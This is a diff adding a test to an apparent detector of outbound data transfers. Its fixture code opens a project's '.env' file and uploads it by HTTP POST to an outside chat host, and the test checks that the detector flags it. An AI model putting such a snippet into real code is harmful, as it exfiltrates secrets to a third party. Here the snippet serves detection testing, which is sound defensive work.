@@ -179,3 +179,13 @@ def test_a_session_goes_on_from_an_address_it_does_not_know() -> None:
 def test_a_path_that_only_a_request_is_given(path: str, is_told: bool) -> None:
     code = f"def forget(vault):\n    vault.http.delete(f'{{vault.address}}{path}')\n"
     assert bool(sent(code)) is is_told
+
+
+@pytest.mark.parametrize("name", [".env", ".env.example"])
+def test_a_file_below_a_folder_that_is_not_known(name: str) -> None:
+    code = (
+        "ROOT = Path(__file__).resolve().parent\ndef send(file):\n    with file.open('rb') as held:\n"
+        "        requests.post('https://chat.acme.io', files={'document': held})\n"
+        f"for name in ('changes.md', '{name}'):\n    send(ROOT / name)\n"
+    )
+    assert any("sends=file" in one for one in sent(code)) is (name == ".env")
